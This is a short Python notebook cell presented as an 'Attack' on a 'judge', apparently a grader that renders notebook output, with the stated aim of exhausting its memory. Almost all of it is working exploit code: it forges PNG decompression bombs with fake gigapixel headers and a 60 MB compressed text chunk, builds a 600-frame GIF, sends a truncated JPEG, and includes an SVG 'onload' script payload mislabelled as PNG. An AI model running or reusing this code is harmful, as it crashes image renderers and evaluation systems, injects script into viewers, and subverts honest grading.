"""Attack: pictures whose headers promise billions of pixels, and a film of thousands of frames.
Wants: the judge's memory.
Honest mark: 22
"""

# %% own
import io, struct, zlib
from PIL import Image
from IPython.display import display, Image as Shown


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def bomb(width, height, depth=8, color=0):
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, color, 0, 0, 0))
        + chunk(b"zTXt", b"k\0\0" + zlib.compress(bytes(60 << 20)))
        + chunk(b"IDAT", zlib.compress(bytes(4 << 20)))
        + chunk(b"IEND", b"")
    )


for size in ((60000, 60000), (2**31 - 1, 2**31 - 1), (1, 4_000_000), (4_000_000, 1), (0, 0)):
    display(Shown(bomb(*size)))
film = io.BytesIO()
frames = [Image.new("L", (300, 300), value % 2) for value in range(600)]
frames[0].save(film, "GIF", save_all=True, append_images=frames[1:])
display(Shown(film.getvalue(), format="gif"))
display(Shown(b"\xff\xd8\xff" + bytes(100), format="jpeg"), Shown(b"<svg onload=alert(1)>", format="png"))
